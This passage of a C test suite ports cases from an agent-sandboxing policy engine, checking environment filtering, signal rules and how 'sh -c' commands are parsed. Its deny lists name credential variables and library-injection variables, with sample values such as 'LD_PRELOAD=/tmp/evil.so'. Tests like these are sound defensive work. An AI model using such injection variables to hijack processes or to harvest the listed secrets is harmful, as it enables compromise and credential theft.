	EN("canyonroad/agentsh internal/policy/env_test.go:71", "MY_SECRET", 0),
	EN("canyonroad/agentsh internal/policy/env_test.go:72", "OTHER_VAR", 0),
	EN("canyonroad/agentsh internal/policy/env_test.go:73", "AWS_ACCESS_KEY_ID", 0),
};
static const char env_allow_yaml[] = "version: 1\nname: t\nenv_policy:\n"
    "  allow: [PATH, HOME, USER, \"MY_*\"]\n  deny: [MY_SECRET]\n";

static const struct ecase env_secrets[] = {
	EN("canyonroad/agentsh internal/policy/env_test.go:106", "AWS_SECRET_ACCESS_KEY", 0),
	EN("canyonroad/agentsh internal/policy/env_test.go:107", "AWS_ACCESS_KEY_ID", 0),
	EN("canyonroad/agentsh internal/policy/env_test.go:108", "GITHUB_TOKEN", 0),
	EN("canyonroad/agentsh internal/policy/env_test.go:109", "GH_TOKEN", 0),
	EN("canyonroad/agentsh internal/policy/env_test.go:110", "KUBECONFIG", 0),
	EN("canyonroad/agentsh internal/policy/env_test.go:113", "MY_CUSTOM_VAR", 1),
	EN("canyonroad/agentsh internal/policy/env_test.go:252", "LD_PRELOAD", 0),
	EN("canyonroad/agentsh internal/policy/env_test.go:253", "LD_LIBRARY_PATH", 0),
	EN("canyonroad/agentsh internal/policy/env_test.go:254", "LD_AUDIT", 0),
	EN("canyonroad/agentsh internal/policy/env_test.go:255", "LD_DEBUG", 0),
	EN("canyonroad/agentsh internal/policy/env_test.go:257", "DYLD_INSERT_LIBRARIES", 0),
	EN("canyonroad/agentsh internal/policy/env_test.go:260", "PYTHONPATH", 0),
	EN("canyonroad/agentsh internal/policy/env_test.go:261", "PYTHONSTARTUP", 0),
	EN("canyonroad/agentsh internal/policy/env_test.go:262", "RUBYLIB", 0),
	EN("canyonroad/agentsh internal/policy/env_test.go:263", "RUBYOPT", 0),
	EN("canyonroad/agentsh internal/policy/env_test.go:264", "PERL5LIB", 0),
	EN("canyonroad/agentsh internal/policy/env_test.go:265", "PERL5OPT", 0),
	EN("canyonroad/agentsh internal/policy/env_test.go:266", "NODE_PATH", 0),
	EN("canyonroad/agentsh internal/policy/env_test.go:267", "NODE_OPTIONS", 0),
	EN("canyonroad/agentsh internal/policy/env_test.go:269", "BASH_ENV", 0),
	EN("canyonroad/agentsh internal/policy/env_test.go:270", "ENV", 0),
	EN("canyonroad/agentsh internal/policy/env_test.go:271", "PROMPT_COMMAND", 0),
	{ "canyonroad/agentsh internal/policy/env_test.go:172", NULL,
	    { "PATH=/usr/bin", "AWS_SECRET_ACCESS_KEY=secret",
	    "GITHUB_TOKEN=token", "MY_VAR=value", NULL },
	    { "PATH=/usr/bin", "MY_VAR=value", NULL },
	    { "AWS_SECRET_ACCESS_KEY=secret", "GITHUB_TOKEN=token", NULL },
	    NULL },
	{ "canyonroad/agentsh internal/policy/env_test.go:342", NULL,
	    { "PATH=/usr/bin", "HOME=/home/user", "LD_PRELOAD=/tmp/evil.so",
	    "LD_LIBRARY_PATH=/tmp/libs", "PYTHONPATH=/tmp/pycode",
	    "NODE_OPTIONS=--require=/tmp/evil.js", "MY_SAFE_VAR=value", NULL },
	    { "PATH=/usr/bin", "HOME=/home/user", "MY_SAFE_VAR=value", NULL },
	    { "LD_PRELOAD=/tmp/evil.so", "LD_LIBRARY_PATH=/tmp/libs",
	    "PYTHONPATH=/tmp/pycode", "NODE_OPTIONS=--require=/tmp/evil.js",
	    NULL }, NULL },
};
static const char env_none_yaml[] = "version: 1\nname: t\n";

static const struct ecase env_glob[] = {
	{ "canyonroad/agentsh internal/policy/env_test.go:137", NULL,
	    { "PATH=/usr/bin", "HOME=/home/user", "MY_VAR=value1",
	    "MY_SECRET_KEY=secret", "OTHER_VAR=other", NULL },
	    { "PATH=/usr/bin", "HOME=/home/user", "MY_VAR=value1", NULL },
	    { "MY_SECRET_KEY=secret", "OTHER_VAR=other", NULL }, NULL },
};
static const char env_glob_yaml[] = "version: 1\nname: t\nenv_policy:\n"
    "  allow: [PATH, HOME, \"MY_*\"]\n  deny: [\"MY_SECRET_*\"]\n";

static const struct ecase env_internal[] = {
	{ "canyonroad/agentsh internal/policy/env_test.go:287", NULL,
	    { "PATH=/usr/bin", "HOME=/home/user", "OTHER_VAR=filtered",
	    "AGENTSH_IN_SESSION=1", "AGENTSH_SESSION_ID=test-123",
	    "AGENTSH_SERVER=http://localhost:8080", "CUSTOM_VAR=filtered",
	    NULL },
	    { "PATH=/usr/bin", "HOME=/home/user", "AGENTSH_IN_SESSION=1",
	    "AGENTSH_SESSION_ID=test-123",
	    "AGENTSH_SERVER=http://localhost:8080", NULL },
	    { "OTHER_VAR=filtered", "CUSTOM_VAR=filtered", NULL }, NULL },
};
static const char env_internal_yaml[] = "version: 1\nname: t\nenv_policy:\n"
    "  allow: [PATH, HOME]\n";

static const struct ecase env_maxkeys[] = {
	{ "canyonroad/agentsh internal/policy/env_test.go:207",
	    "ours: the default PATH counts too", { "A=1", "B=2", NULL }, { NULL },
	    { NULL }, "more than env_policy max_keys 2" },
};
static const char env_maxkeys_yaml[] = "version: 1\nname: t\nenv_policy:\n"
    "  max_keys: 2\n";

static const struct ecase env_maxbytes[] = {
	{ "canyonroad/agentsh internal/policy/env_test.go:223", NULL,
	    { "PATH=/usr/local/bin:/usr/bin:/bin", NULL }, { NULL }, { NULL },
	    "more than env_policy max_bytes 10" },
};
static const char env_maxbytes_yaml[] = "version: 1\nname: t\nenv_policy:\n"
    "  max_bytes: 10\n";

static void
ported_env(void)
{
	run_ecases(env_deny_yaml, env_deny, nitems(env_deny));
	run_ecases(env_allow_yaml, env_allow, nitems(env_allow));
	run_ecases(env_none_yaml, env_secrets, nitems(env_secrets));
	run_ecases(env_glob_yaml, env_glob, nitems(env_glob));
	run_ecases(env_internal_yaml, env_internal, nitems(env_internal));
	run_ecases(env_maxkeys_yaml, env_maxkeys, nitems(env_maxkeys));
	run_ecases(env_maxbytes_yaml, env_maxbytes, nitems(env_maxbytes));
}

/* ------------------------------------------------------------------ */
/* internal/signal: engine_test.go, types_test.go */

struct scase {
	const char	*src;
	const char	*ours;
	const char	*yaml_rules;	/* signal_rules entries */
	int		 sig;
	unsigned int	 target;
	int		 pid;
	const char	*comm;
	int		 cannot_block;
	enum pol_decision want;
	const char	*rule;
	int		 redirect;
};

#define CHILD	(POL_SIGT_CHILD | POL_SIGT_DESCENDANT | POL_SIGT_IN_SESSION)
static const struct scase sigs[] = {
	{ "canyonroad/agentsh internal/signal/engine_test.go:155", NULL,
	    "  - {name: allow-term-children, signals: [SIGTERM], target: {type: children}, decision: allow}\n",
	    15, CHILD, 0, NULL, 0, D_ALLOW, "allow-term-children", 0 },
	{ "canyonroad/agentsh internal/signal/engine_test.go:177", NULL,
	    "  - {name: deny-kill-external, signals: [SIGKILL], target: {type: external}, decision: deny}\n",
	    9, 0, 0, NULL, 0, D_DENY, "deny-kill-external", 0 },
	{ "canyonroad/agentsh internal/signal/engine_test.go:211", "ours: the default has a rule name",
	    "  - {name: allow-term-children, signals: [SIGTERM], target: {type: children}, decision: allow}\n",
	    9, CHILD, 0, NULL, 0, D_DENY, "default-deny-signals", 0 },
	{ "canyonroad/agentsh internal/signal/engine_test.go:218", "ours: the default has a rule name",
	    "  - {name: allow-term-children, signals: [SIGTERM], target: {type: children}, decision: allow}\n",
	    15, POL_SIGT_IN_SESSION, 0, NULL, 0, D_DENY, "default-deny-signals", 0 },
	{ "canyonroad/agentsh internal/signal/engine_test.go:224", NULL,
	    "  - {name: deny-term-external, signals: [SIGTERM], target: {type: external}, decision: deny}\n"
	    "  - {name: allow-term-external, signals: [SIGTERM], target: {type: external}, decision: allow}\n",
	    15, 0, 0, NULL, 0, D_DENY, "deny-term-external", 0 },
	{ "canyonroad/agentsh internal/signal/engine_test.go:275", NULL,
	    "  - {name: allow-term-children, signals: [SIGTERM], target: {type: children}, decision: allow}\n"
	    "  - {name: deny-term-external, signals: [SIGTERM], target: {type: external}, decision: deny}\n",
	    15, CHILD, 0, NULL, 0, D_ALLOW, "allow-term-children", 0 },
	{ "canyonroad/agentsh internal/signal/engine_test.go:281", NULL,
	    "  - {name: allow-term-children, signals: [SIGTERM], target: {type: children}, decision: allow}\n"
	    "  - {name: deny-term-external, signals: [SIGTERM], target: {type: external}, decision: deny}\n",
	    15, 0, 0, NULL, 0, D_DENY, "deny-term-external", 0 },
	{ "canyonroad/agentsh internal/signal/engine_test.go:303", NULL,
	    "  - {name: allow-fatal-children, signals: [\"@fatal\"], target: {type: children}, decision: allow}\n",
	    3, CHILD, 0, NULL, 0, D_ALLOW, "allow-fatal-children", 0 },
	{ "canyonroad/agentsh internal/signal/engine_test.go:309", NULL,
	    "  - {name: allow-fatal-children, signals: [\"@fatal\"], target: {type: children}, decision: allow}\n",
	    10, CHILD, 0, NULL, 0, D_DENY, "default-deny-signals", 0 },
	{ "canyonroad/agentsh internal/signal/engine_test.go:314", NULL,
	    "  - {name: redirect-kill-to-term, signals: [SIGKILL], target: {type: children}, decision: redirect, redirect_to: SIGTERM}\n",
	    9, CHILD, 0, NULL, 0, D_REDIRECT, "redirect-kill-to-term", 15 },
	{ "canyonroad/agentsh internal/signal/engine_test.go:337", NULL,
	    "  - {name: audit-usr1, signals: [SIGUSR1], target: {type: session}, decision: audit}\n",
	    10, POL_SIGT_IN_SESSION, 0, NULL, 0, D_AUDIT, "audit-usr1", 0 },
	{ "canyonroad/agentsh internal/signal/engine_test.go:358", NULL,
	    "  - {name: approve-kill, signals: [SIGKILL], target: {type: external}, decision: approve}\n",
	    9, 0, 0, NULL, 0, D_APPROVE, "approve-kill", 0 },
	{ "canyonroad/agentsh internal/signal/engine_test.go:379", NULL,
	    "  - {name: absorb-hup, signals: [SIGHUP], target: {type: session}, decision: absorb}\n",
	    1, POL_SIGT_IN_SESSION, 0, NULL, 0, POL_ABSORB, "absorb-hup", 0 },
	{ "canyonroad/agentsh internal/signal/engine_test.go:400", NULL,
	    "  - {name: deny-nginx, signals: [SIGKILL], target: {type: process, pattern: \"nginx*\"}, decision: deny}\n",
	    9, 0, 100, "nginx-worker", 0, D_DENY, "deny-nginx", 0 },
	{ "canyonroad/agentsh internal/signal/engine_test.go:424", NULL,
	    "  - {name: deny-low-pids, signals: [SIGKILL], target: {type: pid_range, min: 1, max: 100}, decision: deny}\n"
	    "  - {name: allow-rest, signals: [SIGKILL], target: {type: external}, decision: allow}\n",
	    9, 0, 150, NULL, 0, D_ALLOW, "allow-rest", 0 },
	{ "canyonroad/agentsh internal/signal/engine_test.go:485", NULL,
	    "  - {name: deny-kill, signals: [SIGKILL], target: {type: external}, decision: deny, fallback: audit}\n",
	    9, 0, 0, NULL, 1, D_AUDIT, "deny-kill", 0 },
	{ "canyonroad/agentsh internal/signal/engine_test.go:471", NULL,
	    "  - {name: deny-kill, signals: [SIGKILL], target: {type: external}, decision: deny, fallback: audit}\n",
	    9, 0, 0, NULL, 0, D_DENY, "deny-kill", 0 },
	{ "canyonroad/agentsh internal/signal/engine_test.go:597", NULL,
	    "  - {name: by-number, signals: [\"15\"], target: {type: children}, decision: allow}\n",
	    15, CHILD, 0, NULL, 0, D_ALLOW, "by-number", 0 },
	{ "canyonroad/agentsh internal/signal/types_test.go:25", NULL,
	    "  - {name: short, signals: [TERM, KILL, HUP], target: {type: external}, decision: deny}\n",
	    1, 0, 0, NULL, 0, D_DENY, "short", 0 },
	{ "canyonroad/agentsh internal/signal/types_test.go:49", NULL,
	    "  - {name: job, signals: [\"@job\"], target: {type: external}, decision: deny}\n",
	    22, 0, 0, NULL, 0, D_DENY, "job", 0 },
};

static void
ported_signals(void)
{
	char			 yaml[1024];
	struct pol		*p;
	struct pol_result	 res;
	struct pol_signal_req	 q;

	for (size_t i = 0; i < nitems(sigs); i++) {
		snprintf(yaml, sizeof(yaml), "version: 1\nname: t\n"
		    "signal_rules:\n%s", sigs[i].yaml_rules);
		p = tload(yaml);
		memset(&q, 0, sizeof(q));
		q.signal = sigs[i].sig;
		q.target = sigs[i].target;
		q.target_pid = sigs[i].pid;
		q.target_comm = sigs[i].comm;
		q.cannot_block = sigs[i].cannot_block;
		pol_eval_signal(p, &q, &res);
		ck_assert_msg(res.decision == sigs[i].want &&
		    strcmp(res.rule, sigs[i].rule) == 0, "%s: got %s/%s",
		    sigs[i].src, pol_decision_name(res.decision), res.rule);
		if (sigs[i].redirect)
			ck_assert_int_eq(res.signal, sigs[i].redirect);
		pol_free(p);
		nported++;
	}
	/* canyonroad/agentsh internal/signal/types_test.go:23 and
	 * canyonroad/agentsh internal/signal/engine_test.go:96 */
	{
		char	 err[512];

		ck_assert_ptr_null(tload_err("version: 1\nname: t\n"
		    "signal_rules:\n  - {name: x, signals: [INVALID], "
		    "target: {type: self}, decision: deny}\n", err,
		    sizeof(err)));
		ck_assert_ptr_nonnull(strstr(err, "unknown signal 'INVALID'"));
		ck_assert_ptr_null(tload_err("version: 1\nname: t\n"
		    "signal_rules:\n  - {name: x, signals: [\"@invalid\"], "
		    "target: {type: self}, decision: deny}\n", err,
		    sizeof(err)));
		ck_assert_ptr_null(tload_err("version: 1\nname: t\n"
		    "signal_rules:\n  - {name: x, signals: [KILL], "
		    "target: {type: bogus}, decision: deny}\n", err,
		    sizeof(err)));
		ck_assert_ptr_nonnull(strstr(err, "unknown target type"));
		nported += 3;
	}
}

/* ------------------------------------------------------------------ */
/* shellparse/shellparse_test.go: what `sh -c` derives to.  Each case
 * builds a policy that denies the command the original derives; a case
 * the original cannot derive expects the shell's allow. */

struct dcase {
	const char	*src;
	const char	*ours;
	const char	*shell;
	const char	*args[8];
	const char	*derived;	/* NULL: not derived */
};

#define DV(src, ours, sh, derived, ...) \
	{ src, ours, sh, { __VA_ARGS__, NULL }, derived }
static const struct dcase derive[] = {
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:20", NULL, "sh", "shutdown", "-c", "shutdown now"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:22", NULL, "./sh", "ls", "-c", "ls"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:37", NULL, "sh.real", "shutdown", "-c", "shutdown"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:39", NULL, "/bin/dash", "whoami", "-c", "whoami"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:40", NULL, "/bin/ash", "id", "-c", "id"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:41", NULL, "ksh", "ps", "-c", "ps"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:42", NULL, "mksh", "date", "-c", "date"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:46", NULL, "sh", "ls", "-ce", "ls"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:50", NULL, "sh", "ls", "-ux", "-c", "ls"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:51", NULL, "sh", "shutdown", "-f", "-c", "shutdown"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:57", NULL, "sh", "ls", "-c", "command ls"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:58", NULL, "sh", "shutdown", "-c", "exec exec shutdown"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:59", NULL, "sh", "ls", "-c", "exec command ls"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:71", NULL, "sh", "shutdown", "-c", "nice time shutdown"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:62", NULL, "sh", "shutdown", "-c", "nohup exec shutdown"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:91", "ours: time --help runs nothing", "sh", NULL, "-c", "time --help shutdown"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:94", "ours: env's options are parsed", "sh", "shutdown", "-c", "env --chdir=/tmp shutdown"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:102", NULL, "/usr/bin/fish", NULL, "-c", "ls"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:103", "ours: busybox is unwrapped to its sh applet", "busybox", "ls", "sh", "-c", "ls"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:104", NULL, "/usr/bin/python3", NULL, "-c", "print('hi')"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:119", NULL, "sh", "ls", "-s", "-c", "ls"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:122", NULL, "bash", "ls", "-Bc", "ls"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:123", NULL, "bash", "ls", "-Hc", "ls"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:124", NULL, "bash", "shutdown", "-lec", "shutdown"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:126", NULL, "bash", "rm", "-l", "-e", "-u", "-c", "rm foo"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:129", NULL, "sh", NULL, "ls"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:130", "ours: --login is followed", "bash", "ls", "--login", "-c", "ls"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:139", NULL, "sh", NULL, "--", "-c", "ls"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:141", NULL, "sh", NULL, "-c"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:168", NULL, "sh", NULL, "-c", "0FOO=bar nohup ls"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:171", NULL, "sh", NULL, "-c", "FOO=1 BAR=2"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:173", NULL, "sh", "ls", "-c", "ls", "extra"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:175", NULL, "bash", "rm", "-c", "rm foo", "bash", "a", "b", "c"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:176", NULL, "sh", "whoami", "-ec", "whoami", "myscript"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:179", NULL, "sh", NULL, "-c", ""),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:180", NULL, "sh", NULL, "-c", "   \t  "),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:184", "ours: redirections are followed", "sh", "echo", "-c", "echo hi > out"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:185", "ours: redirections are followed", "sh", "cat", "-c", "cat < in"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:186", "ours: lists are followed", "sh", "pwd", "-c", "ls; pwd"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:187", "ours: lists are followed", "sh", "ls", "-c", "ls &"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:188", NULL, "sh", NULL, "-c", "echo `date`"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:190", "ours: subshells are followed", "sh", "ls", "-c", "(ls)"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:191", "ours: echo is decided like any command", "sh", "echo", "-c", "echo \"hi\""),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:199", "ours: comments are skipped", "sh", "ls", "-c", "ls # comment"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:200", NULL, "sh", NULL, "-c", "fg %1"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:201", "ours: newlines separate commands", "sh", "pwd", "-c", "ls\npwd"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:202", "ours: bytes beyond ASCII are ordinary", "sh", "\xc3\xa9ls", "-c", "\xc3\xa9ls"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:215", NULL, "sh", "grep", "-c", "grep \"pattern\" file"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:216", NULL, "sh", "grep", "-c", "grep 'pat tern' file"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:217", NULL, "sh", "shutdown", "-c", "shutdown foo\"bar\""),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:226", NULL, "sh", NULL, "-c", "shutdown \"$(date)\""),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:231", NULL, "sh", NULL, "-c", "echo 'hi"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:236", "ours: pwd is decided like any command", "sh", "pwd", "-c", "pwd"),
	DV("canyonroad/agentsh internal/shellparse/shellparse_test.go:237", "ours: test is decided like any command", "sh", "test", "-c", "test -f foo"),
};

static void
ported_derive(void)
{
	char		 yaml[512];
	const char	*argv[12];
	struct pol	*p;
	struct pol_result res;
	struct pol_exec_req x;
	struct pol_ctx	 ctx = { POL_CTX_EXEC_INTERCEPTED, POL_OPAQUE_ALLOW };

	for (size_t i = 0; i < nitems(derive); i++) {
		const struct dcase *d = &derive[i];
		size_t	 n = 0;

		snprintf(yaml, sizeof(yaml), "version: 1\nname: t\n"
		    "command_rules:\n"
		    "  - {name: target, commands: [\"%s\"], decision: deny}\n"
		    "  - {name: shells, commands: [\"*\"], decision: allow}\n",
		    d->derived ? d->derived : "no-such-command");
		p = tload(yaml);
		argv[n++] = d->shell;
		for (size_t j = 0; d->args[j] != NULL; j++)
			argv[n++] = d->args[j];
		argv[n] = NULL;
		memset(&x, 0, sizeof(x));
		x.argv = argv;
		x.argc = n;
		ck_assert_int_eq(pol_eval_exec(p, &ctx, &x, &res), 0);
		if (d->derived != NULL)
			ck_assert_msg(res.decision == POL_DENY &&
			    strcmp(res.rule, "target") == 0,
			    "%s: %s not derived (%s/%s)", d->src, d->derived,
			    pol_decision_name(res.decision), res.rule);
		else
			ck_assert_msg(res.decision == POL_ALLOW,
			    "%s: derived something (%s/%s)", d->src,
			    pol_decision_name(res.decision), res.rule);
		pol_free(p);
		nported++;
	}
}

START_TEST(test_ported)
{
	/* One test, one process: the cases are counted as they run. */
	ported_exec();
	ported_vars();
	ported_context_parse();
	ported_env();
	ported_signals();
	ported_derive();
	ck_assert_msg(nported >= 200, "only %d ported cases", nported);
}
END_TEST

Suite *
ported_suite(void)
{
	Suite	*s = suite_create("ported");
	TCase	*tc = tcase_create("ported");

	tcase_set_timeout(tc, 60);
	tcase_add_test(tc, test_ported);
	suite_add_tcase(s, tc);
	return s;
}
